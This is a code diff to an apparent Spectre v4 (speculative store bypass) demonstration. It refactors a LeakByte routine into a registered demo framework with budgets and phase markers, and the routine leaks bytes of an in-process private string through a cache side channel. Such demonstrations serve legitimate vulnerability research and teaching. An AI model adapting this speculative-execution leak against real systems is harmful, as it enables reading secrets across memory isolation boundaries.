@@ -14,6 +14,8 @@
 #include <iostream>
 
 #include "cache_sidechannel.h"
+#include "demo_registry.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "utils.h"
@@ -28,14 +30,16 @@ constexpr size_t kArrayLength = 64;
 // Instead, the leak is performed by accessing out-of-bounds during speculative
 // execution, bypassing the bounds check by training the branch predictor to
 // think that the value will be in-range.
-static char LeakByte(const char *data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
   std::unique_ptr<std::array<size_t *, kArrayLength>> array_of_pointers =
       std::unique_ptr<std::array<size_t *, kArrayLength>>(
           new std::array<size_t *, kArrayLength>);
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int run) {
     sidechannel.FlushOracle();
 
     // We pick a different offset every time so that it's guaranteed that the
@@ -58,7 +62,14 @@ static char LeakByte(const char *data, size_t offset) {
     size_t local_pointer_index = run % kArrayLength;
     (*array_of_pointers)[local_pointer_index] = &local_offset;
 
+    MarkPhase(ExperimentPhase::kTrain);
     for (size_t i = 0; i <= local_pointer_index; ++i) {
+      // The last iteration is the trigger. Marking it inside the loop keeps
+      // the store and the load the same instructions as in the training.
+      if (i == local_pointer_index) {
+        MarkPhase(ExperimentPhase::kTrigger);
+      }
+
       // This is the same as:
       // local_offset = (i == local_pointer_index) ? offset : safe_offset;
       // Only when i is at the local_pointer_offset it assigns the unsafe
@@ -83,29 +94,26 @@ static char LeakByte(const char *data, size_t offset) {
           data[local_offset]));
     }
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(data[safe_offset]);
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    MarkPhase(ExperimentPhase::kProbe);
+    return sidechannel.RecomputeScores(data[safe_offset]);
+  });
 }
 
-int main() {
-  std::cout << "Leaking the string: ";
-  std::cout.flush();
+static void RunDemo(DemoContext &context) {
+  CacheSideChannel &sidechannel = context.sidechannel();
+  context.BeginLeak(private_data);
   const size_t private_offset = private_data - public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
     // On at least some machines, this will print the i'th byte from
     // private_data, despite the only actually-executed memory accesses being
     // to valid bytes in public_data.
-    std::cout << LeakByte(public_data, private_offset + i);
-    std::cout.flush();
+    ExperimentOutcome outcome = LeakByte(
+        sidechannel, public_data, private_offset + i, context.budget());
+    if (!context.ReportByte(outcome)) {
+      break;
+    }
   }
-  std::cout << "\nDone!\n";
+  context.EndLeak();
 }
+
+SAFESIDE_REGISTER_DEMO(spectre_v4, RunDemo);